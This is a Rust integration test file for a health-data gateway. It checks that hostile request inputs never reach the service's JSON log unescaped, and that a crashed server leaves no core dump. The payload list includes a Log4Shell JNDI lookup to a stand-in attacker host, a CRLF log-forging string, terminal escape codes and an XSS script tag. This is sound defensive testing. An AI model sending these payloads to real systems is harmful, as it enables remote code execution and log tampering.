//! What a running process lets out by other ways than its answers: lines of its log, and a copy of its memory.

use std::os::unix::process::ExitStatusExt as _;
use std::process::{Command, ExitStatus, Stdio};

use crate::harness::{Home, clock, text, until};

/// What somebody would like to see in a log, or in the program that reads it.
const PAYLOADS: [&str; 5] = [
    "${jndi:ldap://evil.example.nl/a}",
    "%0d%0a{\"level\":\"INFO\",\"message\":\"forged\"}",
    "%1b[2J%1b]0;owned%07",
    "<script>alert(1)</script>",
    "\u{e9}\u{9b}31m",
];
/// The longest line that the log of requests has by itself.
const LINE_MAX: usize = 2_000;

#[tokio::test(flavor = "multi_thread")]
async fn case_91_what_a_client_sends_makes_no_line_of_the_log() {
    let home = Home::new();
    let world = home.world().await;
    let node = home.serve().ready(&world.layout.ops_url()).await;
    let pgo = world.client("pgo", &clock()).unwrap();
    let long = "a".repeat(7_000);
    for payload in PAYLOADS.into_iter().chain([long.as_str()]) {
        for origin in [world.layout.front_origin(), world.layout.back_origin()] {
            for path in [format!("/oauth/authorize?client_id={payload}"), format!("/fhir/{payload}/49/stu3/Patient")] {
                let asking = pgo.http().get(format!("{origin}{path}"));
                let headers = ["user-agent", "x-correlation-id", "medmij-request-id", "referer", "authorization"];
                let asking = headers.iter().fold(asking, |asking, name| {
                    asking.header(*name, http::HeaderValue::from_bytes(payload.as_bytes()).unwrap())
                });
                assert!(asking.send().await.unwrap().status().as_u16() >= 400);
            }
        }
    }
    node.signal("TERM");
    let ended = node.ended().await;
    assert!(ended.out.lines().count() > 20, "the log is not simply empty");
    for line in ended.out.lines() {
        let read: serde_json::Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert!(read.is_object() && line.len() < LINE_MAX, "{line}");
        assert!(!line.chars().any(char::is_control), "{line:?}");
        for word in ["jndi", "forged", "owned", "alert(1)", "aaaaaaaa"] {
            assert!(!line.contains(word), "{line}");
        }
    }
    world.stop().await.unwrap();
}

/// How a program ends that is told to crash, when dumps are allowed to it.
async fn crash(home: &Home, program: &[&str], ready: impl AsyncFnOnce()) -> ExitStatus {
    let script = "ulimit -c unlimited 2>/dev/null; exec \"$@\"";
    let mut child = Command::new("/bin/sh")
        .args(["-c", script, "sh"])
        .args(program)
        .current_dir(home.path(""))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    ready().await;
    let told = Command::new("kill").args(["-ABRT", &child.id().to_string()]).status().unwrap();
    assert!(told.success());
    until("the crash", async || child.try_wait().unwrap()).await
}

/// The kernel says of each process that it ended whether it wrote, or handed on, a copy of its memory.
#[tokio::test(flavor = "multi_thread")]
async fn case_98_a_crash_leaves_no_copy_of_memory() {
    let home = Home::new();
    let world = home.world().await;
    let (file, ops) = (home.path("gateway.toml"), world.layout.ops_url());
    let written = std::fs::read_to_string(&file).unwrap();
    let other = crash(&home, &["sleep", "600"], async || ()).await;
    if !other.core_dumped() {
        println!("skipped case_98: this system writes no core dump of any program");
        return;
    }
    for environment in ["sandbox", "acceptance"] {
        let changed = written.replace("environment = \"sandbox\"", &format!("environment = \"{environment}\""));
        std::fs::write(&file, changed).unwrap();
        let program = [env!("CARGO_BIN_EXE_inzage"), "serve", "--config", text(&file)];
        let ready = async || until("readyz", async || is_ready(&ops).await.then_some(())).await;
        let ended = crash(&home, &program, ready).await;
        assert_eq!((ended.signal(), ended.core_dumped()), (Some(6), false), "{environment}");
    }
    world.stop().await.unwrap();
}

async fn is_ready(ops: &str) -> bool {
    crate::harness::status(ops, "/readyz").await == Some(200)
}
